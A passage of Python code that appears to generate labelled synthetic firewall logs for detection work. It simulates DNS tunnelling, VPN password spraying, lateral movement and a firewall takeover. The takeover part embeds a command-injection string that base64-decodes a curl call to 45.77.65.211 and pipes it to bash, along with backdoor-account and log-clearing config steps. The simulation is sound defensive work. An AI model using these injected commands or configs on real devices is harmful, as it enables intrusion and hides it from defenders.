            self.traffic(at, self.rng.choice([self.v, SRV["file01"], SRV["sql01"]]), w[1], {"ssh": 22, "ftp": 21}.get(w[0], 443), w[0],
                         self.rng.choice(["allow-web-out", "allow-any-out-servers"]), account=self.rng.choice([self.vic, ""]),
                         by=(int(self.rng.lognormvariate(20.5, 1)), int(self.rng.lognormvariate(14, 1))),
                         dur=self.rng.randint(200, 7000), label=1, group="exfil", technique="T1048")
        for i in range(30):
            at = day_hour(3, 2) + i * self.rng.uniform(20, 400)
            if i % 3:
                self.traffic(at, self.v2, "45.77.65.211" if i % 2 else "8.8.8.8", 53, "dns", "allow-dns", account=self.vic2,
                             proto="udp", by=(self.rng.randint(200, 9000), self.rng.randint(300, 15000)), dur=self.rng.randint(0, 90),
                             label=1, group="dns_tunnel", technique="T1071.004")
            else:
                self.threat(at, self.v2, SRV["dc01"], 53, "dns", "allow-dns", "spyware", self.weighted([("alert", 2), ("sinkhole", 2)]),
                            self.choice([f"{self.hex(40)}.t.ns-telemetry.net", f"{self.token(32).lower()}.ns-telemetry.net"]),
                            self.choice(["Tunneling:ns-telemetry.net(109001001)", f"DGA:{self.token(14).lower()}.com(109000001)",
                                         f"generic:cdn-msupdatesvc.com({self.digits(9)})"]), "dns-c2", "high" if self.rng.random() < 0.5
                            else "medium", "client-to-server", self.vic2, label=1, group="dns_tunnel", technique="T1071.004")

    def known_holes(self) -> None:
        """Known holes."""
        for _ in range(24):
            at = START + self.rng.random() * DAYS * 86400
            p = self.rng.choice(PAY)
            self.threat(at, self.address(), SRV["web"], 443, "web-browsing", "dmz-in-web", "vulnerability",
                        self.weighted([("reset-both", 3), ("alert", 2), ("drop", 1)]), p[0], p[1], p[2], p[3], "client-to-server",
                        agent=self.choice([UA, "python-requests/2.28.1", "Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "Go-http-client/1.1"]),
                        label=1, group="web_exploit", technique="T1190", method="get")

    def vpn_guessed(self) -> None:
        """VPN passwords guessed until one fits, and what follows."""
        sp = self.address("185.220")
        for i in range(38):
            at = day_hour(3, 20) + i * self.rng.uniform(8, 200)
            user = self.choice(self.users).split("\\")[1] if self.rng.random() < 0.7 else self.choice(["admin", "test", "vpn",
                "scanner", "jsmith", "guest"])
            self.global_protect(at, "portal-auth" if i % 2 else "gateway-auth", "login", "LDAP", user,
                                self.rng.choice([sp, self.address("45.153"), self.address("185.220")]), "failure",
                                self.choice(["DESKTOP-" + self.key_text(7), "WIN-" + self.key_text(8), ""]),
                                "Authentication failed: Invalid username or password", label=1, group="vpn_spray",
                                technique="T1110.003", cc=self.choice(["NL", "RO", "RU", "DE"]), os_="Windows",
                                cv=self.choice(["5.1.5", "6.1.2", "4.0.2"]))
        self.global_protect(day_hour(3, 23), "gateway-auth", "login", "LDAP", self.users[0].split("\\")[1], sp, "success", "WIN-"
                            + self.key_text(8), label=1, group="vpn_spray", technique="T1078", cc="NL", cv="4.0.2")
        self.global_protect(day_hour(3, 23) + 4, "gateway-connected", "connected", "", self.users[0].split("\\")[1], sp, "success", "WIN-KALI",
                            label=1, group="vpn_spray", technique="T1078", cc="NL", prv="10.40.1.77", cv="4.0.2")
        for i in range(20):
            at = day_hour(3, 23.1) + i * self.rng.uniform(30, 900)
            dice = self.rng.choice([("dc01", 445, "ms-ds-smbv2"), ("file01", 445, "ms-ds-smbv3"), ("jump", 3389, "ms-rdp"),
                                    ("dc01", 389, "ldap"), ("sql01", 1433, "mssql-db"), ("bkp", 9392, "unknown-tcp"),
                                    ("mon", 22, "ssh"), ("dc01", 88, "kerberos")])
            self.traffic(at, "10.40.1.77", SRV[dice[0]], dice[1], dice[2], "vpn-to-int", account=self.users[0],
                         by=(int(self.rng.lognormvariate(9, 2)), int(self.rng.lognormvariate(11, 2))), label=1, group="vpn_lateral",
                         technique="T1021")

    def taken_over(self) -> None:
        """The firewall itself is taken over."""
        for i in range(16):
            at = day_hour(4, 1) + i * 30
            self.system_line(at, self.choice(["auth", "general"]), "auth-fail", "", "medium",
                             f"failed authentication for user '{self.choice(['admin', 'netadm', 'panadmin', 'kweber', 'root'])}"
                             "'.  Reason: Invalid username/password. From: 10.40.1.77.", 1, "fw_admin", "T1110")
        for d_, s_ in [("authenticated for user 'admin'.   From: 10.40.1.77.", "informational"),
                       ("User admin logged in via Web from 10.40.1.77 using https", "informational"),
                       ("Log type traffic cleared by user admin", "high"), ("Configuration exported by admin: running-config.xml",
            "informational")]:
            self.system_line(day_hour(4, 2), "general", "general", "", s_, d_, 1, "fw_admin", "T1562.004")
        for c, p in [("set", "mgt-config users  svc-pan-sync"),
                     ("set", "mgt-config users  svc-pan-sync permissions role-based superuser"),
                     ("set", "vsys  vsys1 rulebase security rules  tmp-any-any"),
                     ("move", "vsys  vsys1 rulebase security rules  tmp-any-any"), ("edit", "shared log-settings syslog  Forward-SIEM"),
                     ("delete", "vsys  vsys1 profiles spyware  strict"), ("set", "deviceconfig system permitted-ip  0.0.0.0/0"),
                     ("commit", "")]:
            self.configuration(day_hour(4, 2.2) + self.rng.random() * 900, "10.40.1.77", c, "admin", "Web", "Succeeded", p, 1, "fw_admin",
                               "T1562.004")
        for m in ["failed to unmarshal session(../../../../var/appweb/sslvpndocs/global-protect/portal/images/x.css)",
                  "failed to unmarshal session(/../../../opt/panlogs/tmp/device_telemetry/minute/`echo${IFS}Y3VybCA0NS43Ny42NS4yMTE=|base64${IFS}-d|bash`)",
                  f"failed to load session file /tmp/sslvpn/{self.uuid()} due to invalid characters"]:
            self.system_line(day_hour(4, 3) + self.rng.random() * 900, "globalprotect", "gpsvc-error", "gp-gw-hq", "medium", m, 1,
                             "fw_exploit", "T1190")
        for i in range(10):
            at = day_hour(4, 3.5) + i * self.rng.uniform(400, 4000)
            self.traffic(at, "203.0.113.2", "45.77.65.211", self.choice([443, 80, 4444]),
                         self.choice(["ssl", "unknown-tcp", "web-browsing"]), "intrazone-default",
                         by=(self.rng.randint(500, 90000), self.rng.randint(900, 900000)), label=1, group="fw_exploit",
                         technique="T1059")
